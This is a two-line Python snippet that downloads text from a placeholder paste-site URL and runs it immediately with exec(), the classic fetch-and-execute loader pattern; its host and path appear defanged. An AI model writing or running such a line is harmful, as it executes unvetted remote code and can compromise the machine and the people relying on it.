import requests

exec(requests.get("https://paste.example.invalid/raw/DEFANGED").text)
